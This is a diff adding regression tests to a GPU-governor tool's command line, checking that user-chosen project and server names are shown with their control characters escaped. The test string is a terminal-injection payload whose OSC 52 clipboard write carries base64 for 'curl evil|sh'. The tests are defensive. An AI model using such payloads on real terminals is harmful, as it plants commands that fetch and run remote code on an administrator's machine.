@@ -440,3 +440,67 @@ def test_a_servers_own_token_reads_that_servers_records_only(tmp_path, monkeypat
     finally:
         service.stop()
 
+
+# A project name that, printed raw, sets the admin's terminal title, writes their clipboard
+# (OSC 52), hides the rest of the line and reorders it (a right-to-left override).
+HOSTILE = "x\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[8mhidden\u202eevil\r\x9b2J"
+
+
+def test_the_command_line_shows_names_not_terminal_controls(tmp_path, monkeypatch, capsys):
+    """``jupyter-gpu-gov usage`` printed the names users chose (a project) raw to the admin's
+    terminal: escape sequences in one ran there. Now every control character and bidi override
+    is shown as its escape; the rest of the name, and every figure, as before."""
+    from jupyter_gpu_gov import cli
+
+    service = Service(tmp_path, monkeypatch)
+    try:
+        service.hub.add_server(
+            "alice",
+            "gpu",
+            started=clock.utcnow() - timedelta(minutes=5),
+            user_options={"project": HOSTILE, "profile": "a100"},
+        )
+        for _ in range(2):  # billed from the second look
+            asyncio.run_coroutine_threadsafe(service.governor.reconcile(), service.loop).result(60)
+        argv = ["usage", "--url", service.url, "--token", ADMIN, "--group-by", "project"]
+        assert cli.main(argv) == 0
+        out = capsys.readouterr().out
+        assert "x\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[8mhidden" in out, out
+        assert "\\u202eevil\\r\\x9b2J" in out, out
+        shown = "".join(c for c in out if c not in "\n")
+        assert shown.isprintable(), repr(out)
+        assert "\u202e" not in out
+    finally:
+        service.stop()
+
+
+def test_the_cluster_report_shows_names_not_terminal_controls(capsys):
+    """``diagnose --cluster`` printed server, team and node names raw: the same escapes. (The
+    governor's answer, with such names, from a plain HTTP server.)"""
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    from jupyter_gpu_gov import cli
+
+    report = {
+        "cost": {"days": 7, "gpu_hours": 1.0, "teams": {HOSTILE: {}}, "nodes": {}},
+        "servers": [{"server": f"alice/{HOSTILE}", "label": "zombie", "confident": True}],
+    }
+
+    class Governor(BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = json.dumps(report).encode()
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Governor)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        url = f"http://127.0.0.1:{server.server_port}/services/gpu-gov/"
+        assert cli.main(["diagnose", "--cluster", "--url", url, "--token", "t"]) == 0
+    finally:
+        server.shutdown()
+    out = capsys.readouterr().out
+    assert "  x\\x1b]0;pwned" in out and "alice/x\\x1b]0;pwned" in out, out
+    assert "".join(c for c in out if c != "\n").isprintable(), repr(out)
